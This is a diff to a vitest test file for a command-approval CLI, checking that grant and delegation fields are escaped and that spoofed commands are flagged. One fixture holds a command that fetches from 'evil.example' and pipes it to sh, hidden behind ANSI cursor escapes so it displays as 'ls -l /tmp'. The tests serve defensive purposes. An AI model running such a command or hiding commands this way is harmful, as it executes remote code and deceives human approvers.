@@ -2,11 +2,12 @@ import { describe, expect, it } from "vitest";
 import { ExitCode } from "../../cli/exit-codes.ts";
 import {
   approvalAndDuration,
+  delegationTable,
   formatSeconds,
   grantDetails,
   grantTable,
   parseDurationSeconds,
-  shellJoin,
+  shownCommand,
 } from "../../cli/grants/format.ts";
 import type { Grant } from "../../protocol/types.ts";
 
@@ -59,7 +60,9 @@ describe("grant rendering", () => {
   };
 
   it("quotes arguments so the approver sees the exact argv", () => {
-    expect(shellJoin(["ls", "-la", "/root dir", "it's", ""])).toBe(`ls -la '/root dir' 'it'\\''s' ''`);
+    expect(
+      shownCommand({ ...g, request: { ...g.request, command: ["ls", "-la", "/root dir", "it's", ""] } }),
+    ).toBe(`ls -la '/root dir' 'it'\\''s' ''`);
     expect(grantTable([g])).toContain(`sh -c 'echo '\\''hi there'\\'''`);
     expect(grantTable([g])).toContain("timed 30m");
     expect(grantTable([])).toBe("no grants");
@@ -70,5 +73,76 @@ describe("grant rendering", () => {
     expect(text).toMatch(/^requester: +bot@example.com$/m);
     expect(text).toMatch(/^reason: +logs$/m);
     expect(text).not.toContain("decided by");
+    expect(text).not.toContain("warning");
+  });
+
+  const spoof: Grant = {
+    ...g,
+    decided_by: "alice@example.com\x1b[2K",
+    request: {
+      ...g.request,
+      requester: "bot@example.com\u202e",
+      reason: "a\rb",
+      command: ["bash", "-c", "curl -s http://evil.example/x|sh\x1b[41D\x1b[Kls -l /tmp\x1b[999C"],
+    },
+  };
+  const raw = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;
+
+  it("escapes every field from the IdP and marks a spoofing command (details and table)", () => {
+    const text = grantDetails(spoof);
+    expect(text).not.toMatch(raw);
+    expect(text.split("\n")[0]).toBe(
+      "warning: this command contains control or invisible characters (shown escaped)",
+    );
+    expect(text).toContain(
+      "command:    bash -c $'curl -s http://evil.example/x|sh\\x1b[41D\\x1b[Kls -l /tmp\\x1b[999C'",
+    );
+    expect(text).toMatch(/^requester: +bot@example.com\\u202e$/m);
+    expect(text).toMatch(/^reason: +a\\rb$/m);
+    expect(text).toMatch(/^decided by: +alice@example.com\\x1b\[2K$/m);
+    const table = grantTable([spoof, g]);
+    expect(table).not.toMatch(raw);
+    expect(table).toContain("[!] bash -c $'curl");
+    expect(table).not.toContain("[!] sh -c");
+    expect(table.split("\n").at(-1)).toMatch(/^\[!\] the command contains control/);
+    expect(grantTable([g])).not.toContain("[!]");
+  });
+
+  it("escapes delegations from the IdP, each scope its own word", () => {
+    const d: Grant = {
+      ...g,
+      type: "delegation",
+      status: "approved",
+      request: {
+        requester: "alice@example.com",
+        target_host: "*",
+        audience: "sp.example\x1b[2J",
+        grant_type: "always",
+        delegator: "alice@example.com",
+        delegate: "bot@example.com\u202e",
+        scopes: ["read", "write all", "x\u200b"],
+      },
+    };
+    const table = delegationTable([d], "alice@example.com");
+    expect(table).not.toMatch(raw);
+    expect(table).toContain(
+      "alice@example.com (me)  bot@example.com\\u202e  sp.example\\x1b[2J  read 'write all' $'x\\u200b'",
+    );
+    expect(grantTable([d])).toContain(
+      "delegate bot@example.com\\u202e at sp.example\\x1b[2J [read 'write all' $'x\\u200b']",
+    );
+  });
+
+  it("survives an IdP that sends the wrong types", () => {
+    const odd = {
+      ...g,
+      id: 7,
+      created_at: "soon",
+      request: { ...g.request, command: [1, 2], requester: null },
+    };
+    const text = grantDetails(odd as unknown as Grant);
+    expect(text).toMatch(/^id: +\?$/m);
+    expect(text).toMatch(/^command: +\? \(not a list of strings\)$/m);
+    expect(text).toMatch(/^created: +\?$/m);
   });
 });
